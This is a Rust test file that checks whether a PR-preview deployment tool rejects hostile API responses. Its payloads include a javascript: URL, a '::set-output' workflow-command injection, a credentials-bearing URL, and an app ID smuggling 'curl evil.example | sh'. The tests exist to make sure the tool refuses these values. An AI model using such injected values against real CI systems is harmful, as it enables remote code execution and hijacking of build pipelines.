//! An API, or what answers in its place, that means harm: what it says is checked before it is passed on.

use crate::harness::{Answer, Between, Tester, run};

/// Every answer with `from` replaced by `to`.
fn replaced(from: String, to: &'static str) -> Answer {
    Answer::Changed(Box::new(move |text| text.replace(&from, to)))
}

#[tokio::test]
async fn an_address_of_another_form_reaches_no_output_and_no_link() {
    for evil in [
        "javascript:alert(document.domain)//",
        "https://shop.example\\n::set-output name=status::ready",
        "https://me:secret@shop.example",
    ] {
        run(async |t: &mut Tester| {
            t.open_pr(7).await;
            t.preview(7).await.succeeds();
            let base = t.sandbox.url("DIGITALOCEAN_API_URL");
            let url = t.app("shop-pr-7").await["live_url"].as_str().unwrap().to_owned();
            let between = Between::start(&base, move |_, _| replaced(url.clone(), evil)).await;
            let status = t
                .command(["status", "--pr", "7"])
                .env("DIGITALOCEAN_API_URL", &between.url())
                .await;
            assert_eq!(status.output("url"), "", "{status}");
            assert_eq!(status.stdout.matches("::set-output").count(), 0);
            status.does_not_say("javascript:").does_not_say("secret@");
        })
        .await;
    }
}

#[tokio::test]
async fn the_comments_address_is_githubs_or_none() {
    run(async |t: &mut Tester| {
        t.open_pr(7).await;
        let between = Between::start(&t.sandbox.url("GITHUB_API_URL"), |_, path| {
            if path.contains("/comments") {
                return Answer::Changed(Box::new(|text| {
                    text.replace("\"html_url\":\"http", "\"html_url\":\"javascript:http")
                }));
            }
            Answer::Changed(Box::new(|text| text))
        })
        .await;
        let preview = t.preview(7).env("GITHUB_API_URL", &between.url()).await;
        preview.succeeds();
        assert_eq!(preview.output("comment-url"), "", "{preview}");
    })
    .await;
}

#[tokio::test]
async fn an_identifier_that_is_more_than_one_word_is_no_output() {
    run(async |t: &mut Tester| {
        t.open_pr(7).await;
        t.preview(7).await.succeeds();
        let id = t.app("shop-pr-7").await["id"].as_str().unwrap().to_owned();
        let between = Between::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |_, _| {
            replaced(format!("\"{id}\""), "\"a; curl evil.example | sh\"")
        })
        .await;
        let status = t
            .command(["status", "--pr", "7"])
            .env("DIGITALOCEAN_API_URL", &between.url())
            .await;
        assert_eq!(status.output("app-id"), "", "{status}");
    })
    .await;
}
